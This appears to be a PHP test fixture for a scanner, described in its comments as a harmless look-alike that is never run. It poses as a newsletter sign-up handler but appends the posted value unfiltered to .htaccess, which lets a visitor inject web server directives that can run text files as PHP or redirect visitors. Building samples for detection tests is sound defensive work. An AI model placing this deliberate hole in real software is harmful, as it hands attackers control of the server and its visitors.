<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Shaped like a sign-up list, but what is posted is appended to .htaccess: the visitor
// writes web server directives (run .txt as PHP, redirect visitors).
if (isset($_POST['email'])) {
    $fh = fopen(__DIR__ . '/.htaccess', 'a');
    fwrite($fh, $_POST['email'] . "\n");
    fclose($fh);
    echo 'ok';
}
